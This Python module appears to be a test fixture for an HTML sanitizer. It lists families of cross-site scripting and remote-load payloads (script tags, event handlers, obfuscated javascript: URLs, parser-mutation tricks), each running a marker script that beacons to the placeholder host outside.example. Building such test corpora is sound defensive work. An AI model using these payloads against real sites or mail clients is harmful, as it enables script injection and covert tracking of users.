"""HTML that wants to run something, load something or look like ours: families of it, and ways to dress each.

`RUN` stands for what a script would do: it tells the test that it ran, and asks an outside address for something.
"""

from __future__ import annotations

OUT = "http://outside.example"
RUN = f"window.ran=1;console.log('RAN');fetch('{OUT}/fetched');new Image().src='{OUT}/pixel'"
_J = RUN.replace('"', "&quot;")

SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT >", f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script/x>",
    f"<script src={OUT}/a.js></script>", "<script src=//outside.example/a.js></script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>", f"<script type=module>{RUN}</script>", f"<script type=module src={OUT}/m.js></script>",
    f"<script>{RUN}", f"<!--<script>-->{RUN}<!--</script>-->", f"<script language=javascript>{RUN}</script>",
    f"\x00<scr\x00ipt>{RUN}</script>", f"<script charset=utf-7>{RUN}</script>", f"<noscript><script>{RUN}</script></noscript>",
    f"<plaintext><script>{RUN}</script>", f"<xmp><script>{RUN}</script></xmp><script>{RUN}</script>",
    f"<textarea><script>{RUN}</script></textarea><script>{RUN}</script>", f"<title><script>{RUN}</script></title>",
]  # fmt: skip
EVENTS = [
    f'<{tag} {attribute}="{_J}">{inside}'
    for tag, attribute, inside in [
        ("img src=x", "onerror", ""), ("img src=x", "ONERROR", ""), ("img/src=x/", "onerror", ""), ("body", "onload", "x"),
        ("body", "onpageshow", "x"), ("body", "onresize", "x"), ("svg", "onload", ""), ("svg/", "onload", ""), ("svg", "onfocusin", ""),
        ("p", "onpointerover", "x"), ("p tabindex=0 autofocus", "onfocus", "x"), ("a href=# autofocus", "onfocus", "x"),
        ("input autofocus", "onfocus", ""), ("select autofocus", "onfocus", ""), ("textarea autofocus", "onfocus", ""),
        ("button autofocus", "onfocus", "x"), ("details open", "ontoggle", "<summary>x</summary>"), ("marquee", "onstart", "x"),
        ("marquee loop=1 width=0", "onfinish", "x"), ("video", "onerror", "<source src=x>"), ("audio src=x", "onerror", ""),
        ("video autoplay", "onloadstart", "<source src=x>"), ("object data=x", "onerror", ""), ("embed src=x", "onload", ""),
        ("iframe", "onload", ""), ("link rel=stylesheet href=x", "onerror", ""), ("style", "onload", "x{}</style>"),
        ("div style='animation:a 1s'", "onanimationstart", "x"), ("div style='transition:1s'", "ontransitionend", "x"),
        ("div contenteditable autofocus", "onfocus", "x"), ("form", "onformdata", "<input>"), ("frameset", "onload", ""),
        ("table", "onscroll", "<tr><td>x"), ("img src='data:,x'", "onload", ""), ("math", "onclick", "x"), ("x", "onclick", "x"),
        ("keygen autofocus", "onfocus", ""), ("dialog open", "onclose", "x"), ("isindex type=image src=x", "onerror", ""),
        ("p\x0b", "onclick", "x"), ("p\u00a0", "onclick", "x"), ("p\x0c", "onclick", "x"), ("p/", "onclick", "x"),
    ]
]  # fmt: skip
URLS = [
    f'<a href="{how}{_J}" autofocus>x</a>'
    for how in [
        "javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:", "java\nscript:", "java\rscript:",
        "java&#9;script:", "java&Tab;script:", "java&NewLine;script:", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:",
        "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "vbscript:", "livescript:", "feed:javascript:",
        "view-source:javascript:", "jar:javascript:", "data:text/html,<script>", "data:text/html;base64,", "blob:", "filesystem:",
        "//javascript:", "\\\\javascript:", "\u2028javascript:", "javascript\u200b:", "ｊavascript:", "javaſcript:",
    ]
]  # fmt: skip
LOADS = [
    f"<img src={OUT}/1.gif>", "<img src=//outside.example/2.gif>", f"<img src=cid:x srcset='{OUT}/3.gif 1x'>",
    f"<img src='cid:x' lowsrc={OUT}/4.gif dynsrc={OUT}/4.gif>", f"<img src=`{OUT}/5.gif`>", f"<img src=' {OUT}/6.gif'>",
    "<img src='\\\\outside.example\\7.gif'>", "<img src='ht\ntp://outside.example/8.gif'>", f"<image src={OUT}/9.gif>",
    f"<input type=image src={OUT}/10.gif>", f"<picture><source srcset={OUT}/11.gif><img src=cid:x></picture>",
    f"<video src={OUT}/12.mp4 poster={OUT}/12.gif autoplay></video>", f"<audio src={OUT}/13.mp3 autoplay></audio>",
    f"<video><source src={OUT}/14><track default src={OUT}/14.vtt></video>", f"<table background={OUT}/15.gif><td background={OUT}/15>x",
    f"<body background={OUT}/16.gif>x", f"<link rel=stylesheet href={OUT}/17.css>", f"<link rel=icon href={OUT}/18.ico>",
    f"<link rel=preload as=image href={OUT}/19.gif>", f"<link rel=prefetch href={OUT}/20>", "<link rel=dns-prefetch href=//outside.example>",
    f"<link rel=preconnect href={OUT}>", f"<link rel=manifest href={OUT}/21>", f"<link rel=import href={OUT}/22>",
    f"<style>@import '{OUT}/23.css';</style><p>x", f"<style>p{{background:url({OUT}/24)}}</style><p>x",
    f"<p style='background:url({OUT}/25)'>x", f"<p style='background-image:image-set(\"{OUT}/26\" 1x)'>x",
    f"<p style='list-style:url({OUT}/27);display:list-item'>x", f"<p style='cursor:url({OUT}/28),auto'>x",
    f"<style>@font-face{{font-family:f;src:url({OUT}/29)}}p{{font-family:f}}</style><p>x", f"<p style=\"content:url({OUT}/30)\">x",
    f"<p style='background:\\75rl({OUT}/31)'>x", f"<p style='-webkit-mask:url({OUT}/32)'>x", f"<iframe src={OUT}/33></iframe>",
    f"<iframe srcdoc=\"<img src={OUT}/34>\"></iframe>", f"<frameset><frame src={OUT}/35></frameset>", f"<object data={OUT}/36></object>",
    f"<embed src={OUT}/37>", f"<applet code=x codebase={OUT}/38></applet>", f"<base href={OUT}/><img src=39.gif><a href=39>x</a>",
    f"<meta http-equiv=refresh content='0;url={OUT}/40'>", f"<meta http-equiv=refresh content='0;{OUT}/41'>",
    f"<meta http-equiv=Link content='<{OUT}/42.css>;rel=stylesheet'>", f"<meta http-equiv=set-cookie content='a=b'><img src={OUT}/43>",
    f"<form action={OUT}/44><input name=q autofocus><button>x</button></form>", f"<button formaction={OUT}/45>x</button>",
    f"<svg><image href={OUT}/46.gif /></svg>", f"<svg><image xlink:href={OUT}/47.gif /></svg>", f"<svg><use href={OUT}/48#x /></svg>",
    f"<svg><feImage href={OUT}/49 /></svg>", f"<svg><style>@import '{OUT}/50';</style></svg>", f"<math href={OUT}/51>x</math>",
    f"<a ping={OUT}/52 href=https://example.net>x</a>", f"<bgsound src={OUT}/53>", f"<layer src={OUT}/54></layer>",
    f"<xml src={OUT}/55></xml>", f"<portal src={OUT}/56></portal>", f"<blockquote cite={OUT}/57>x</blockquote><img src={OUT}/57>",
    f"<q cite={OUT}/58>x</q><img/src={OUT}/58>", f"<img src=x usemap=#m><map name=m><area href={OUT}/59></map><img src='{OUT}/59'>",
    f"<template><img src={OUT}/60></template>", f"<div hidden><img loading=eager src={OUT}/61></div>", f"<html manifest={OUT}/62>",
    f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{OUT}/63\"]}}]}}</script>", f"<object type=image/svg+xml data={OUT}/64>",
]  # fmt: skip
MUTATING = [
    part.replace("RUN", _J)
    for part in [
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
        '<math><mtext><table><mglyph><style><math><img src onerror="RUN"></style></mglyph></table></mtext></math>',
        '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=\'RUN\' src=1>">',
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror="RUN"></style></annotation-xml></math>',
        '<svg><style><img src=x onerror="RUN"></style></svg>', '<svg></p><style><a id="</style><img src=1 onerror=\'RUN\'>">',
        '<svg><p><style><!--</style><img src=x onerror="RUN">--></style>', '<svg><desc><noscript><img src=x onerror="RUN"></noscript></desc></svg>',
        '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>', '<svg><script>RUN</script></svg>',
        '<svg><script xlink:href="data:,RUN" /></svg>', '<svg><a xlink:href="javascript:RUN"><text x=9 y=9>x</text></a></svg>',
        '<svg><animate xlink:href=#a attributeName=href values="javascript:RUN" /><a id=a><text x=9 y=9>x</text></a></svg>',
        '<svg><set attributeName=onmouseover to="RUN" /></svg>', '<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>',
        '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x" /></svg>', '<svg><title><style><img src=x onerror="RUN"></style></title></svg>',
        '<noscript><p title="</noscript><img src=x onerror=\'RUN\'>">', '<noscript><style></noscript><img src=x onerror="RUN"></style>',
        '<template><style></template><img src=x onerror="RUN"></style>', '<template shadowrootmode=open><img src=x onerror="RUN"></template>',
        '<select><style></select><img src=x onerror="RUN"></style>', '<select><template><script>RUN</script></template></select>',
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror="RUN">', '<table><td><form><table><td><img src=x onerror="RUN">',
        '<p id="</p><img src=x onerror=\'RUN\'>">', '<a title="</a><img src=x onerror=\'RUN\'>" href=https://example.net>x</a>',
        '<img alt="`><img src=x onerror=\'RUN\'>`">', "<img alt='<x' title='\"><img src=x onerror=\"RUN\">'>", '<b <img src=x onerror="RUN">',
        '<!--><img src=x onerror="RUN">-->', '<!--!><img src=x onerror="RUN">-->', '<!-- --!><img src=x onerror="RUN"> -->',
        '<!-- --\n><img src=x onerror="RUN"> -->', '<![CDATA[<img src=x onerror="RUN">]]>', '<svg><![CDATA[><img src=x onerror="RUN">]]></svg>',
        '<?xml version="1.0"?><img src=x onerror="RUN">', '<!DOCTYPE x [<!ENTITY e "<img src=x onerror=RUN>">]>&e;', '<//><img src=x onerror="RUN">',
        '</br style=x:expression(RUN)><img src=x onerror="RUN">', '<title><p title="</title><img src=x onerror=\'RUN\'>">',
        '<style><p title="</style><img src=x onerror=\'RUN\'>">', '<iframe><p title="</iframe><img src=x onerror=\'RUN\'>">',
        '<noembed><p title="</noembed><img src=x onerror=\'RUN\'>">', '<noframes><p title="</noframes><img src=x onerror=\'RUN\'>">',
        '<xmp><p title="</xmp><img src=x onerror=\'RUN\'>">', '<textarea><p title="</textarea><img src=x onerror=\'RUN\'>">',
        '&lt;img src=x onerror="RUN"&gt;', '&amp;lt;img src=x onerror="RUN"&amp;gt;', '\ufeff<img src=x onerror="RUN">', '＜img src=x onerror="RUN"＞',
        '\u2028<img\u2028src=x onerror="RUN">', '<img src=x:x onerror\u200b="RUN">', '<im\x00g src=x oner\x00ror="RUN">', '<img """><script>RUN</script>">',
        "<a href=\"https://example.net'onclick='RUN\">x</a>", '<td colspan="1 onclick=RUN">x</td>', '<ol start="1\'onclick=\'RUN">x</ol>',
        '<img src="cid:x"onerror="RUN">', '<img src="cid:x\' onerror=\'RUN">', '<a href="mailto:x?subject=</title><script>RUN</script>">x</a>',
        '<a href="https://example.net" target=_top rel=opener>x</a><img src=x onerror="RUN">', '<object><param name=x value="javascript:RUN"></object>',
        '<embed type=text/html src="data:text/html,<script>RUN</script>">', '<iframe src="javascript:RUN"></iframe>',
        '<iframe sandbox="allow-scripts" srcdoc="<script>RUN</script>"></iframe>', '<frame src="javascript:RUN">',
        '<meta http-equiv=refresh content="0;url=javascript:RUN">', '<meta http-equiv=Content-Security-Policy content="script-src *"><script>RUN</script>',
        '<link rel=import href="data:text/html,<script>RUN</script>">', '<style>@import "javascript:RUN";</style>',
        '<p style="behavior:url(#x);width:expression(RUN)">x', '<p style="-moz-binding:url(data:text/xml,RUN)">x', '<base href="javascript:/a/-RUN///////">',
    ]
]  # fmt: skip
FAMILIES = {"scripts": SCRIPTS, "events": EVENTS, "urls": URLS, "loads": LOADS, "mutating": MUTATING}
PAYLOADS = [payload for family in FAMILIES.values() for payload in family]
